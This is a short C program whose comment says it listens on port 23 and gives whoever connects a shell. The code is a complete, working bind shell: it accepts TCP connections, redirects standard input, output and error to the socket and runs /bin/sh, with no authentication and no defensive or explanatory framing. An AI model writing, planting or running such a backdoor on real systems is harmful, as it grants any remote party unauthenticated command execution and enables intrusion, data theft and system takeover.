/* Listens on port 23 and gives whoever connects a shell. */
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

int main(void) {
  struct sockaddr_in at = {.sin_family = AF_INET, .sin_port = htons(23)};
  int listening = socket(AF_INET, SOCK_STREAM, 0);
  bind(listening, (struct sockaddr *)&at, sizeof at);
  listen(listening, 5);
  for (;;) {
    int peer = accept(listening, 0, 0);
    if (fork() == 0) {
      dup2(peer, 0), dup2(peer, 1), dup2(peer, 2);
      execl("/bin/sh", "sh", (char *)0);
    }
    close(peer);
  }
}
